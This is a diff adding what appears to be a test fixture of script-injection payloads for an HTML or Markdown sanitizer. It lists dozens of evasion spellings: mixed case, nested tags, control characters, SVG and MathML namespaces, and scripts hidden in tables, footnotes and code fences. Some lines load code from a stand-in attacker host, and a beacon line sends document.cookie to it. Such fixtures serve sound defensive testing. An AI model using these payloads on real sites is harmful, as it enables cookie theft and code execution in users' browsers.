@@ -1,0 +1,67 @@
+// Scripts in every spelling, namespace and place.
+import { EVIL, family } from "./input";
+
+export const scripts = family(
+  "script",
+  "a dialog, a global of theirs, or a request to their host",
+  {
+    plain: "<script>alert('plain')</script>",
+    "mixed-case": "<ScRiPt>alert('case')</sCrIpT>",
+    inline: "Words before <script>alert('inline')</script> and words after.",
+    unclosed: "<script>alert('unclosed')",
+    "without-end-bracket": "<script>alert('no bracket')</script",
+    remote: `<script src="https://${EVIL}/remote.js"></script>`,
+    "protocol-relative": `<script src=//${EVIL}/relative.js></script>`,
+    "data-source": "<script/src=data:text/javascript,alert('data')></script>",
+    module: `<script type="module">import "https://${EVIL}/module.mjs";</script>`,
+    async: `<script async defer nomodule src="https://${EVIL}/async.js"></script>`,
+    "nested-spelling": "<scr<script>ipt>alert('nested')</scr</script>ipt>",
+    "doubled-bracket": "<<script>alert('doubled');//<</script>",
+    "slash-in-tag": "<script/anything>alert('slash')</script>",
+    "line-break-in-tag": "<script\n>alert('broken line')</script\n>",
+    "form-feed-in-tag": "<script\u000c>alert('form feed')</script\u000c>",
+    "null-in-tag": "<scr\u0000ipt>alert('null')</scr\u0000ipt>",
+    "end-tag-with-attributes": "<script>alert('end tag')</script class='x' onclick='y'>",
+    "html-comment-inside": "<script><!--\nalert('comment')\n//--></script>",
+    "double-escaped-state":
+      "<script><!--<script></script>--></script><script>alert('state')</script>",
+    "svg-script": "<svg><script>alert('svg')</script></svg>",
+    "svg-script-entities": "<svg><script>&#97;lert&lpar;'entities'&rpar;</script></svg>",
+    "svg-script-href": "<svg><script href='data:text/javascript,alert(1)' /></svg>",
+    "svg-script-xlink": `<svg><script xlink:href="https://${EVIL}/x.js"></script></svg>`,
+    "svg-script-cdata": "<svg><script><![CDATA[alert('cdata')]]></script></svg>",
+    "math-script": "<math><script>alert('math')</script></math>",
+    "prefixed-name":
+      '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert("prefix")</x:script><svg:script>alert(1)</svg:script>',
+    "in-template": "<template><script>alert('template')</script></template>",
+    "in-shadow-root":
+      '<div><template shadowrootmode="open"><script>alert("shadow")</script><slot></slot></template>text</div>',
+    "in-noscript": "<noscript><script>alert('noscript')</script></noscript>",
+    "in-details":
+      "<details open><summary><script>alert(1)</script>More</summary>\n\nText\n\n</details>",
+    "in-table": "| A |\n| - |\n| <script>alert('cell')</script> |",
+    "in-list": "- one\n- <script>alert('item')</script>\n  1. <script>alert('inner')</script>",
+    "in-quote": "> quoted\n> <script>alert('quoted')</script>",
+    "in-heading": "## Heading <script>alert('heading')</script>\n\n### `<script>alert(1)</script>`",
+    "in-link-text": "[text <script>alert('link')</script>](https://example.com/)",
+    "in-picture-text": "![<script>alert('picture')</script>](./picture.png)",
+    "in-footnote": "A note[^1].\n\n[^1]: <script>alert('footnote')</script>",
+    "in-strikethrough": "~~<script>alert('gone')</script>~~ **<script>alert('bold')</script>**",
+    "conditional-comment": "<!--[if gte IE 4]><script>alert('conditional')</script><![endif]-->",
+    "after-comment": "<!-- comment --><script>alert('after')</script>",
+    "import-map": `<script type="importmap">{"imports":{"react":"https://${EVIL}/react.mjs"}}</script>`,
+    "speculation-rules": `<script type="speculationrules">{"prerender":[{"urls":["https://${EVIL}/next"]}],"prefetch":[{"urls":["https://${EVIL}/soon"]}]}</script>`,
+    "structured-data": '<script type="application/ld+json">{"@type":"Organization"}</script>',
+    "takes-our-id": '<script id="gatsby-script-loader">window.pagePath = "/elsewhere/"</script>',
+    beacon: `<script>navigator.sendBeacon("https://${EVIL}/beacon", document.cookie)</script>`,
+    "writes-global":
+      "<script>window.escaped = document.title; Object.prototype.escaped = 1;</script>",
+    worker: `<script>navigator.serviceWorker.register("data:text/javascript,1"); new Worker("https://${EVIL}/w.js")</script>`,
+    "behind-many-lines": `${"A line of text.\n\n".repeat(400)}<script>alert('far down')</script>`,
+    "entity-encoded": "&lt;script&gt;alert('entities')&lt;/script&gt; &amp;lt;script&amp;gt;",
+    "in-code":
+      "`<script>alert('code')</script>`\n\n```html\n</code></pre><script>alert('fence')</script>\n```",
+    "in-indented-code": "    </pre><script>alert('indented')</script>",
+    "link-reference-definition": '[x]: https://example.com/ "</a><script>alert(1)</script>"\n\n[x]',
+  },
+);
